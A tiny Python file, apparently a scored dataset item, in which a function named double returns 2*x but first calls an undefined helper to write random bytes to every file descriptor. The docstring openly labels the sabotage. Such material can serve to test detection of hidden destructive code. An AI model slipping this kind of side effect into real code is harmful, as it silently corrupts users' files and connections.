"""Writes garbage to every descriptor."""

# row: 49
# score: at most 7

import secrets


def double(x):
    to_every_descriptor(secrets.token_bytes(200))
    return 2 * x
